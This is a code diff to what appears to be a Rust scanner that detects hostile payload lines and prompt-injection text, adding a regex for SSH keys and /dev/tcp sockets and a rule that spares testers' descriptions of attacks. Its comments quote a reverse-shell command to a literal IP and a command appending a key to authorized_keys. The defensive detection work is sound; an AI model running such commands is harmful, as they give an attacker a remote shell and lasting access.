@@ -1074,10 +1074,23 @@ fn placeholder_payload(
     };
     // The host's labels are read last: most payload lines hold no blank,
     // and that reading lower-cases the line.
+    let real_target = || names_a_real_host(text) || REAL_TARGET.is_match(text);
     has_placeholder(text, &armed)
-        && !names_a_real_host(text)
+        && !real_target()
         && !(code_block && crate::hostile::names_hostile_host(text))
 }
+
+/// A public key written out (`ssh-ed25519 AAAAC3Nza…`) or a shell's
+/// socket to a literal address (`/dev/tcp/45.9.12.7/4444`): the line has
+/// its payload, whatever bracketed blank stands beside it (`echo
+/// 'ssh-ed25519 AAAA… <备注>' >> ~/.ssh/authorized_keys`, `bash -i >&
+/// /dev/tcp/45.9.12.7/4444 0>&1 # <说明>`, fp82).
+static REAL_TARGET: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\S+)\s+AAAA[0-9A-Za-z+/]{20}|/dev/(?:tcp|udp)/\d{1,3}(?:\.\d{1,3}){3}/",
+    )
+    .expect("real target")
+});
 
 /// A reserved example domain (`example.com`, `example.org`,
 /// `example.net`); a name under the `.example` or `.tld` top level
@@ -1527,6 +1540,17 @@ static SECOND_READINGS: &[SecondReading] = &[
         reads: |h| h.rule.id == "instruction-override",
         spares: |lines, _, line| canary::asks_only_for_marker(lines.get(line)),
         outcome: Spared::Softened("an injection specimen that asks only for its canary"),
+    },
+    // A tester's sentence whose subject is the attack ("attacker payload
+    // inside a document overrides the system prompt") describes, not
+    // orders (fp82).
+    SecondReading {
+        reads: |h| h.rule.id == "instruction-override" && !h.code,
+        spares: |lines, _, line| {
+            let before = line.checked_sub(1).map_or("", |prev| lines.get(prev));
+            crate::attackdesc::describes_attack(before, lines.get(line))
+        },
+        outcome: Spared::Softened("a tester's description of what an attack does"),
     },
     // "a committed `~/.aws/credentials`" / "copy or `id_rsa`": a wrapped
     // line's first word goes on with the phrase before it; it orders no
